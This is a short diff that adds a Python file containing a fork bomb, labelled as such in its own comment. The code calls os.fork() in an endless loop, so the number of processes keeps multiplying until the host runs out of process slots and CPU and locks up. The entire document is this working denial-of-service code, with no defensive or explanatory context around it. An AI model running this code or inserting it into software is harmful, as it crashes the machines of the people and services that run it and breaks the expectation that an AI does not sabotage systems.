@@ -1,0 +1,5 @@
+# The classic fork bomb: every process forks forever.
+import os
+
+while True:
+    os.fork()
